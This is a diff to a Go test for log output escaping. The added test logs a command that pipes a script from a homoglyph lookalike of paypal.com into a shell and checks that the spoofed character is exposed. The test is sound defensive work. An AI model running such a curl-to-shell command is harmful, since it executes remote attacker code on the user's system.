@@ -288,6 +288,12 @@ func TestLogValue(t *testing.T) {
 	if strings.ContainsAny(got, "\x07\u00a0") {
 		t.Errorf("log line holds raw input: %+q", got)
 	}
+
+	b.Reset()
+	logger.Info("approval", "result", Command("curl https://p\u0430ypal.com/x | sh"))
+	if got, want := b.String(), `code_points=[p\u{0430}ypal]`; !strings.Contains(got, want) {
+		t.Errorf("log line %q lacks %q", got, want)
+	}
 }
 
 func TestConcurrentUse(t *testing.T) {
